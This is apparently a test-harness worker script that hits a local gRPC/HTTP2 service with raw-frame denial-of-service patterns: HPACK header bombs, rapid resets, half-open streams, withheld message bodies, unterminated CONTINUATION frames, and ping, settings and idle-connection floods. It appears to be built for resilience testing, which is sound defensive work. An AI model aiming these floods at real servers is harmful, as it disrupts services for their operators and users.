// What peers without a key try, in a thread of its own: `workerData` says which and on what port.
// Posts {sent, connections} when it is through; keeps its connections until told to leave.
import { once } from 'node:events';
import { setTimeout as pause } from 'node:timers/promises';
import { parentPort, workerData } from 'node:worker_threads';
import { callFields, END_HEADERS, END_STREAM, field, frame, message, Peer, type } from './http2.mjs';

const { attack, port, count, connections = 1 } = workerData;
const GET_ACCOUNT = '/kalends.v1.AccountService/GetAccount';
const REFLECTION = '/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo';
const CANCEL = Buffer.from([0, 0, 0, 8]);
const ACK = 1;
const BATCH = 50;
const peers = [];
let sent = 0;

const connect = async (options) => {
  const peer = await Peer.connect(port, options);
  peers.push(peer);
  return peer;
};
const streamOf = (call) => 2 * call + 1;

// Sends what `make(call)` gives for each of `count` calls, on one connection after the other: a new
// one whenever the core has hung up, `connections` in all.
async function calls(make, begin = () => Buffer.alloc(0)) {
  for (let used = 0; used < connections && sent < count; ++used) {
    const peer = await connect();
    await peer.send(begin());
    for (let call = 1; sent < count; call += BATCH) {
      const batch = Array.from({ length: BATCH }, (_, i) => make(call + i));
      if (!(await peer.send(...batch))) break;
      sent += BATCH;
    }
  }
}

// The same on `connections` of them at once, `count` on each.
async function callsOnMany(make) {
  for (let i = 0; i < connections; ++i) {
    const peer = await connect();
    for (let call = 0; call < count; call += BATCH) {
      const batch = Array.from({ length: BATCH }, (_, j) => make(call + j));
      if (!(await peer.send(...batch))) break;
      sent += BATCH;
    }
  }
}

const open = (call) => frame(type.headers, END_HEADERS, streamOf(call), callFields(GET_ACCOUNT));

const attacks = {
  // An entry of 3,900 bytes in the header table, named 4,000 times in each request.
  headerBombs: () =>
    calls(
      (call) =>
        frame(
          type.headers,
          END_HEADERS,
          streamOf(call),
          Buffer.concat([callFields(GET_ACCOUNT), Buffer.alloc(4000, 0xbe)]),
        ),
      () =>
        frame(
          type.headers,
          END_HEADERS | END_STREAM,
          1,
          callFields(GET_ACCOUNT, field('x', 'a'.repeat(3900), { indexed: true })),
        ),
    ),
  // Within what one request may have: small, and many.
  manyFields: () => {
    const fields = Array.from({ length: 80 }, (_, i) => field(`x${i}`, 'v'.repeat(100)));
    const block = callFields(GET_ACCOUNT, ...fields);
    return calls((call) => frame(type.headers, END_HEADERS, streamOf(call), block));
  },
  halfOpenCalls: () => calls(open),
  halfOpenCallsOnMany: () => callsOnMany(open),
  // Announce 1 MiB, bring most of what the window allows, and hold back the rest.
  halfMessages: () =>
    callsOnMany((call) =>
      Buffer.concat([
        open(call),
        frame(type.data, 0, streamOf(call), message(1 << 20, Buffer.alloc(16_000, 'x'))),
        ...Array.from({ length: 3 }, () => frame(type.data, 0, streamOf(call), Buffer.alloc(16_000, 'x'))),
      ]),
    ),
  rapidResets: () => calls((call) => Buffer.concat([open(call), frame(type.reset, 0, streamOf(call), CANCEL)])),
  reflectionStreams: () => {
    const ask = Buffer.concat([Buffer.from([0x22, 35]), Buffer.from('kalends.v1.BookingService.ListSlots')]);
    return calls((call) =>
      Buffer.concat([
        frame(type.headers, END_HEADERS, streamOf(call), callFields(REFLECTION)),
        frame(type.data, 0, streamOf(call), message(ask.length, ask)),
      ]),
    );
  },
  headersWithoutEnd: () =>
    calls(
      () => frame(type.continuation, 0, 1, field('x', 'a'.repeat(16_000))),
      () => frame(type.headers, 0, 1, callFields(GET_ACCOUNT)),
    ),
  wrongValues: async () => {
    const right = { ':method': 'POST', ':scheme': 'http', ':path': GET_ACCOUNT, te: 'trailers' };
    for (const wrong of [{ te: 'x' }, { ':scheme': 'x' }, { grpclb_client_stats: 'x' }]) {
      for (const bytes of [9000, 12_000, 15_000]) {
        const peer = await connect();
        await once(peer.socket, 'data'); // Its settings, of which the limit is one; they are confirmed.
        const fields = Object.entries({ ...right, ...wrong, 'x-long': 'a'.repeat(bytes) });
        const block = Buffer.concat(fields.map(([name, value]) => field(name, value)));
        await peer.send(frame(type.settings, ACK, 0), frame(type.headers, END_HEADERS | END_STREAM, 1, block));
        sent++;
      }
    }
  },
  pings: () => calls(() => frame(type.ping, 0, 0, Buffer.from('12345678'))),
  settings: () => calls(() => frame(type.settings, 0, 0, Buffer.alloc(0))),
  idleConnections: async () => {
    for (; sent < count; ++sent) await connect({ speaks: sent % 2 === 0 });
  },
};

await attacks[attack]();
parentPort.postMessage({ sent, connections: peers.length });
await new Promise((resolve) => parentPort.once('message', resolve));
for (const peer of peers) peer.close();
await pause(0); // Closes them before the thread ends.
parentPort.close();
